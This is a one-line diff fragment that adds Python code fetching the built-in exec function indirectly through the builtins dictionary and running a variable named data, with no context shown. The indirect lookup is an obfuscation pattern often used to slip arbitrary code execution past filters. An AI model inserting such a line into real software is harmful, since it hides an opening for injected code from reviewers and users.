@@ -1,0 +1,1 @@
+dict(vars(__builtins__))["exec"](data)
